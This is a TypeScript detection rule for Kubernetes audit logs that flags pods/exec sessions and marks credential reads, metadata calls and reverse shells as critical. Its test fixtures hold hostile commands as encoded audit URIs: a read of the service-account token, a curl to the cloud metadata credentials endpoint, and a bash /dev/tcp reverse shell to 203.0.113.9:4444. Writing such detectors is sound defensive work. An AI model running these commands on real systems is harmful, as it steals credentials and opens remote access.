import { defineDetection } from '../rule.js';
import { succeeded } from '../../sources/audit/event.js';
import { ADMIN, KUBELET, auditEvent, podSA } from './examples.js';
import { execArgv, execCommand } from './uri.js';
import { execIntent } from '../exec-intent.js';

// kubectl ≥ 1.30 opens exec over WebSockets with verb `get`; older clients POST (verb `create`).
// The event that matters is ResponseStarted (code 101): the session is open and running.
export default defineDetection({
  meta: {
    id: 'KM-DT-001',
    title: 'Command run in a container (pods/exec)',
    severity: 'high',
    description: 'Someone opened an exec session into a running container. Attackers use exec to run tools inside a workload, read its mounted service-account token and secrets, and move on from there; in production it is rarely part of normal operations. A command that plainly reads credentials (the service-account token, the node\'s or the cloud\'s), calls the cloud metadata service or opens a reverse shell is critical.',
    response: 'Check that the user and command were expected. If not, revoke the user\'s credentials, inspect the container, and rotate the service-account token and secrets it could reach. Restrict `pods/exec` in RBAC to break-glass roles.',
    mitre: ['T1609'],
    references: ['https://kubernetes.io/docs/reference/access-authn-authz/rbac/#privilege-escalation-prevention-and-bootstrapping', 'https://attack.mitre.org/techniques/T1609/'],
    falco: ['Attach/Exec Pod'],
  },
  on: ['pods/exec'],
  create: () => (e) => {
    if (!succeeded(e)) return undefined;
    const ref = e.objectRef!;
    const { command, container } = execCommand(e.requestURI);
    const intent = execIntent(execArgv(e.requestURI));
    return {
      message: `${e.user.username} ran \`${command || '?'}\` in ${ref.namespace}/${ref.name}${container ? ` (container ${container})` : ''}${intent ? `: ${intent.kind} (${intent.evidence})` : ''}`,
      ...(intent ? { severity: 'critical' as const } : {}),
      details: { command, ...(container ? { container } : {}), ...(intent ? { intent: intent.kind } : {}) },
    };
  },
  examples: {
    trigger: [
      auditEvent({ verb: 'get', stage: 'ResponseStarted', code: 101, level: 'Request', uri: '/api/v1/namespaces/lab-apps/pods/app/exec?command=id&container=app&stderr=true&stdout=true', resource: 'pods', subresource: 'exec', namespace: 'lab-apps', name: 'app', user: ADMIN }),
      auditEvent({ verb: 'create', code: 101, level: 'Request', uri: '/api/v1/namespaces/shop/pods/web-0/exec?command=sh&command=-c&command=cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=web&stdin=true&stdout=true&tty=true', resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-0', user: podSA('ci', 'deployer') }),
      auditEvent({ verb: 'get', stage: 'ResponseStarted', code: 101, level: 'Request', uri: '/api/v1/namespaces/shop/pods/web-0/exec?command=curl&command=-s&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F&container=web&stdout=true', resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-0', user: ADMIN }),
      auditEvent({ verb: 'get', stage: 'ResponseStarted', code: 101, level: 'Request', uri: '/api/v1/namespaces/shop/pods/web-0/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261&container=web&stdout=true', resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-0', user: ADMIN }),
    ],
    ignore: [
      // denied: the burst rule counts it, this one does not
      auditEvent({ verb: 'get', code: 403, level: 'Request', uri: '/api/v1/namespaces/lab-apps/pods/app/exec?command=id&container=app&stdout=true', resource: 'pods', subresource: 'exec', namespace: 'lab-apps', name: 'app', user: podSA('lab-apps', 'default') }),
      auditEvent({ verb: 'get', uri: '/api/v1/namespaces/lab-apps/pods/app', resource: 'pods', namespace: 'lab-apps', name: 'app', user: KUBELET }),
    ],
  },
});
